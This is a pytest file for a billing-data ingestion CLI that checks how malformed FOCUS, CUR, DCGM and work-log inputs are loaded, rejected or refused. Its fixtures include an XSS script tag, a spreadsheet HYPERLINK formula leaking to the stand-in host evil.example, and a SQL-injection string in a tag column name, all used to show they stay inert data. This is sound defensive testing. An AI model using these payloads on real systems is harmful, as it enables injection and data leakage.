"""The bad-input corpus (tests/data/bad, files named for their defect): each file has one exact,
stated outcome, and it is one of three:

* `loaded`  - a clean load: every row read is loaded (rows_read = rows_loaded), totals as stated;
* `rejects` - the file loads, the bad rows are quarantined in `rejects` with their check;
* `error`   - one `Error: <file>: ...` line, exit code 1, the warehouse exactly as before.

Never a traceback, never a silently dropped row: rows_read = rows_loaded + rows_rejected always.
A few inputs are generated rather than committed (a 1 MB cell, a path with quotes and non-ASCII).
"""
from __future__ import annotations

import gc
import json
import random
from pathlib import Path
from typing import Callable, NamedTuple

import duckdb
import pytest
from click.testing import CliRunner

from pipelines.cli import main
from tests.conftest import DATA
from tests.wh_state import snapshot

BAD = DATA / "bad"
MINIMAL = DATA / "focus" / "focus_1.2_minimal.csv"


def _replace_description(text: str, new: str) -> str:
    return text.replace("$98.32 per On Demand Linux p5.48xlarge Instance Hour", new, 1)


def one_mb_cell(tmp: Path) -> Path:
    p = tmp / "focus_1mb_cell.csv"
    p.write_text(_replace_description(MINIMAL.read_text(), "x" * (1 << 20)))
    return p


def three_mb_cell(tmp: Path) -> Path:
    p = tmp / "focus_3mb_cell.csv"
    p.write_text(_replace_description(MINIMAL.read_text(), "y" * (3 << 20)))
    return p


def weird_path(tmp: Path) -> Path:
    d = tmp / "exports with spaces, 'single' and \"double\" quotes"
    d.mkdir()
    p = d / "facture d'octobre – 10月 \"final\".csv"
    # other content than MINIMAL (loaded first in the test), or it would be `unchanged`
    p.write_text(MINIMAL.read_text().replace("INV-1", "INV-2"))
    return p


def random_bytes(tmp: Path) -> Path:
    p = tmp / "export.csv"
    p.write_bytes(random.Random(9).randbytes(300_000).replace(b"\n", b"\x00").replace(b"\r", b"\x00"))
    return p


GENERATED: dict[str, Callable[[Path], Path]] = {
    "<300 KB random bytes, no line break>": random_bytes, "<1 MB cell>": one_mb_cell, "<3 MB cell>": three_mb_cell, "<path with spaces, quotes, non-ASCII>": weird_path,
}

# (file, --kind, outcome, expected): expected is the Error: text for `error`, the rejected rows as
# {row: {checks}} for `rejects`, and {json key: value} of the file's result for `loaded`.
CASES = [
    ("empty_file.csv", "auto", "error", "empty file (0 bytes of content)"),
    ("focus_header_only.csv", "auto", "loaded", {"rows_read": 0, "totals.billed_cost": 0.0, "totals.currency": None}),
    ("focus_truncated.csv.gz", "auto", "error", "truncated or corrupt gzip (IO Error: Unexpected end of GZIP stream"),
    ("focus_corrupt.csv.gz", "auto", "error", "corrupt gzip data"),
    # Not guessed as latin-1: a wrong guess would silently change text (team names, tag values).
    # (found by the independent count's read when the byte sits in a column no reader selects)
    ("focus_latin1_bytes.csv", "auto", "error", "not UTF-8 text (line 2"),
    ("focus_utf8_bom.csv", "auto", "loaded", {"rows_read": 3, "kind": "focus", "totals.billed_cost": 94.326}),
    ("focus_quoted_newline_in_field.csv", "auto", "loaded", {"rows_read": 2, "totals.billed_cost": 99.326}),
    ("binary_file.bin", "auto", "error", "not a known input format"),
    ("<300 KB random bytes, no line break>", "auto", "error", "not a known input format"),
    ("not_a_known_format.csv", "auto", "error", "not a known input format"),
    ("focus_missing_chargecategory.csv", "auto", "error", "missing required column ChargeCategory (header)"),
    ("focus_missing_billedcost_and_currency.csv", "focus", "error",
     "not a focus file (header does not match). Check that it is a FinOps FOCUS billing export"),
    # another known format under the wrong --kind: refused, and the right kind is named
    ("focus_header_only.csv", "aws-cur", "error", "not an aws-cur file (header does not match). It looks like focus; pass --kind focus"),
    ("../codecarbon/timezone_local_end_time.csv", "focus", "error", "not a focus file (header does not match). It looks like codecarbon"),
    ("dcgm_sentinels_nan_inf.prom", "codecarbon", "error", "It looks like dcgm-prom; pass --kind dcgm-prom"),
    # Unknown columns are ignored (not kept): only FOCUS columns (and CUR/OCI tag columns) are mapped.
    ("focus_extra_unknown_columns.csv", "auto", "loaded", {"rows_read": 3, "totals.billed_cost": 94.326}),
    # Negative usage is legal (refunds, corrections) but flagged as a finding, and it counts.
    ("focus_negative_usage.csv", "auto", "loaded",
     {"rows_read": 2, "totals.billed_cost": -97.314, "totals.findings": {"negative_usage": 1}}),
    # Two currencies are never added together: totals are per currency.
    ("focus_two_currencies.csv", "auto", "loaded",
     {"rows_read": 2, "totals.currency": "mixed", "totals.by_currency.USD.billed_cost": 98.32,
      "totals.by_currency.EUR.billed_cost": 1.006}),
    ("focus_outside_billing_period.csv", "auto", "loaded",
     {"rows_read": 2, "totals.billed_cost": 99.326, "totals.findings": {"outside_billing_period": 1}}),
    # The same identity/LineItemId in the same TimeInterval twice: both lines load and count (the
    # file is the bill, and its total must match), and the repeat is a finding on both rows.
    ("cur_duplicate_line_item_ids.csv", "auto", "loaded", {"rows_read": 3, "kind": "aws-cur", "totals.billed_cost": 76.0452,
                                                           "totals.findings": {"duplicate_line_item": 2}}),
    ("focus_nan_inf_costs.csv", "auto", "rejects",
     {1: {"parses_as_decimal", "not_nullable"}, 2: {"parses_as_decimal", "not_nullable"},
      3: {"parses_as_decimal", "not_nullable"}}),
    # Row numbers of a scrape are its line numbers (comments included). 2^47 (FP64 blank), NaN,
    # +Inf, 9223372036854775794 (INT64 NOT_SUPPORTED) and 2147483632 (INT32 blank) are rejected.
    ("dcgm_sentinels_nan_inf.prom", "auto", "rejects",
     {3: {"dcgm_blank_sentinel"}, 4: {"finite"}, 5: {"finite"},    # NaN and +Inf: one reject each, never two
      8: {"dcgm_blank_sentinel"}, 10: {"dcgm_blank_sentinel"}}),
    ("focus_tag_script_and_formula.csv", "auto", "loaded", {"rows_read": 2, "totals.billed_cost": 99.326}),
    # Header names reach SQL only as escaped literals/identifiers (sources/aws_cur.py tags_map_sql).
    ("cur_sql_quotes_in_tag_column_names.csv", "auto", "loaded", {"rows_read": 3, "totals.billed_cost": 76.0452}),
    ("<1 MB cell>", "auto", "loaded", {"rows_read": 3, "totals.billed_cost": 94.326}),
    # Past DuckDB's 2 MB line limit: refused with the reason, never truncated.
    ("<3 MB cell>", "auto", "error", "Maximum line size of 2000000 bytes exceeded"),
    ("<path with spaces, quotes, non-ASCII>", "auto", "loaded", {"rows_read": 3, "totals.billed_cost": 94.326}),
    # What no bill can produce is a located reject, never a later overflow in build or reports:
    # amounts and quantities beyond sources/reference/billing_limits.csv (1e27 units, two lines of
    # 9e25 that no DECIMAL(38, 12) sum holds, NaN and infinities), a charge period that ends
    # before it starts, a GPU instance line whose usage is not time (seconds and minutes are
    # converted, with a note). The CUR is staged in place (sources/billing_in_place.py).
    ("focus_amounts_beyond_the_warehouse.csv", "auto", "rejects", {row: {"within_billing_limit"} for row in range(1, 7)}),
    ("focus_charge_period_ends_before_it_starts.csv", "auto", "rejects", {2: {"period_end_not_before_start"}}),
    ("focus_gpu_usage_not_in_hours.csv", "auto", "rejects", {3: {"gpu_usage_in_time"}}),
    ("cur_line_items_beyond_limits_or_reversed.csv", "auto", "rejects",
     {2: {"period_end_not_before_start"}, 3: {"within_billing_limit"}, 4: {"gpu_usage_in_time"}}),
    # Work logs (issue 22) are held to the same rules: a missing column or a broken JSON record
    # stops the file at its place, a cell that is not what its column needs is a located reject.
    ("work_missing_workload.csv", "auto", "error", "missing required column workload (header)"),
    ("work_jsonl_newline_inside_a_key.jsonl", "auto", "error", "Malformed JSON in file"),
    ("work_unparseable_cells.csv", "auto", "rejects",
     {2: {"parses_as_timestamp", "not_nullable"}, 3: {"greater_than_or_equal_to(0)"}, 4: {"isin(['training', 'serving'])"}}),
]


class Result(NamedTuple):
    exit_code: int
    stdout: str
    stderr: str


def case_path(name: str, tmp: Path) -> Path:
    return GENERATED[name](tmp) if name in GENERATED else BAD / name


def dig(d: dict, dotted: str):
    for part in dotted.split("."):
        d = d[part]
    return d


def ingest(wh: Path, path: Path, kind: str) -> Result:
    """The CLI in-process; returns what a user sees. The click result is dropped (and collected):
    its traceback would keep the command's DuckDB connection open."""
    res = CliRunner().invoke(main, ["ingest", str(path), "--warehouse", str(wh), "--json", "--kind", kind])
    # A traceback is an exception that is not the CLI's own SystemExit.
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    out = Result(res.exit_code, res.stdout, res.stderr)
    del res
    gc.collect()
    return out


def test_every_bad_file_has_a_case():
    named = {c[0] for c in CASES}
    assert {p.name for p in BAD.iterdir()} <= named


@pytest.mark.parametrize("name, kind, outcome, expected", CASES, ids=[f"{c[0]}--{c[1]}" for c in CASES])
def test_bad_input_outcome(tmp_path, name, kind, outcome, expected):
    wh = tmp_path / "wh.duckdb"
    assert ingest(wh, MINIMAL, "auto").exit_code == 0      # something to keep unchanged
    before = snapshot(wh)
    path = case_path(name, tmp_path)
    res = ingest(wh, path, kind)
    if outcome == "error":
        lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
        assert res.exit_code == 1 and [f["status"] for f in json.loads(res.stdout)["files"]] == ["failed"]
        assert len(lines) == 1 and lines[0].startswith(f"Error: {path}: "), res.stderr
        assert expected in lines[0]
        assert len(lines[0]) < len(str(path)) + 400      # one readable line, never a dump of the file
        assert snapshot(wh) == before
        return
    assert res.exit_code == 0, res.output
    (f,) = json.loads(res.stdout)["files"]
    assert f["status"] == "loaded"
    assert f["rows_read"] == f["rows_loaded"] + f["rows_rejected"]
    con = duckdb.connect(str(wh), read_only=True)
    file_id, stored_path = con.execute("select file_id, path from source_files where sha256 = ?", [f["sha256"]]).fetchone()
    rejects = con.execute("select row_number, check_name from rejects where file_id = ?", [file_id]).fetchall()
    con.close()
    assert stored_path == str(path.resolve())
    by_row: dict[int, set[str]] = {}
    for row, check in rejects:
        by_row.setdefault(row, set()).add(check)
    assert f["rows_rejected"] == len(by_row)
    if outcome == "loaded":
        assert f["rows_rejected"] == 0 and f["rows_loaded"] == f["rows_read"]
        for key, value in expected.items():
            got = dig(f, key)
            assert got == (pytest.approx(value) if isinstance(value, float) else value), key
    else:
        assert by_row == expected


def test_quoted_newline_is_kept_inside_its_field(warehouse):
    assert ingest(warehouse, BAD / "focus_quoted_newline_in_field.csv", "auto").exit_code == 0
    con = duckdb.connect(str(warehouse), read_only=True)
    desc = con.execute("select charge_description from charges where row_number = 1").fetchone()[0]
    assert desc == '$98.32 per On Demand\nLinux p5.48xlarge, "quoted" Instance Hour'


def test_one_mb_cell_is_loaded_whole(warehouse, tmp_path):
    assert ingest(warehouse, one_mb_cell(tmp_path), "auto").exit_code == 0
    con = duckdb.connect(str(warehouse), read_only=True)
    assert con.execute("select max(length(charge_description)) from charges").fetchone()[0] == 1 << 20


def test_tag_values_are_stored_verbatim(warehouse):
    """Escaping is the job of each output (CSV, HTML), not of the warehouse."""
    assert ingest(warehouse, BAD / "focus_tag_script_and_formula.csv", "auto").exit_code == 0
    con = duckdb.connect(str(warehouse), read_only=True)
    teams = [r[0] for r in con.execute("select tags['team'] from charges order by row_number").fetchall()]
    assert teams == ["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?leak","click")']


def test_tag_column_names_with_quotes_are_data_not_sql(warehouse):
    assert ingest(warehouse, BAD / "cur_sql_quotes_in_tag_column_names.csv", "auto").exit_code == 0
    con = duckdb.connect(str(warehouse), read_only=True)
    tags = con.execute("select tags from charges where row_number = 1").fetchone()[0]
    assert tags == {"team": "vision", 'o\'wner"); drop table charges; --': "o'brien", "cost-center": "=1+1"}


def test_dcgm_int32_blank_is_rejected(warehouse):
    ingest(warehouse, BAD / "dcgm_sentinels_nan_inf.prom", "auto")
    con = duckdb.connect(str(warehouse), read_only=True)
    rows = {r[0] for r in con.execute("select row_number from rejects where check_name = 'dcgm_blank_sentinel'").fetchall()}
    assert 10 in rows      # DCGM_FI_DEV_GPU_UTIL 2147483632


def test_gpu_usage_in_seconds_and_minutes_is_read_in_hours(warehouse):
    """5400 s on a p5.48xlarge (8 GPUs) and 30 min on a g5.xlarge (1 GPU): 12 + 0.5 GPU-hours,
    each conversion a located note; the same line in GB is a reject, not 0 GPU-hours."""
    res = ingest(warehouse, BAD / "focus_gpu_usage_not_in_hours.csv", "auto")
    (f,) = json.loads(res.stdout)["files"]
    assert f["totals"]["gpu_hours"] == pytest.approx(12.5)
    assert f["totals"]["findings"] == {"gpu_usage_converted_to_hours": 2}
    con = duckdb.connect(str(warehouse), read_only=True)
    notes = con.execute("select row_number, column_name, value from row_findings order by 1").fetchall()
    assert notes == [(1, "ConsumedUnit", "Seconds"), (2, "ConsumedUnit", "Minutes")]


def test_a_month_at_the_billing_limits_builds_and_reports(warehouse, tmp_path):
    """What ingest keeps of values beyond the limits (a credit of exactly -1e13, the limit) goes
    through build and the chargeback report: no DECIMAL overflow later."""
    assert ingest(warehouse, BAD / "focus_amounts_beyond_the_warehouse.csv", "auto").exit_code == 0
    for args in (["build"], ["report", "chargeback", "--month", "2026-10", "--out", str(tmp_path / "out")]):
        res = CliRunner().invoke(main, [*args, "--warehouse", str(warehouse)])
        assert res.exit_code == 0 and res.exception is None, res.output + repr(res.exception)
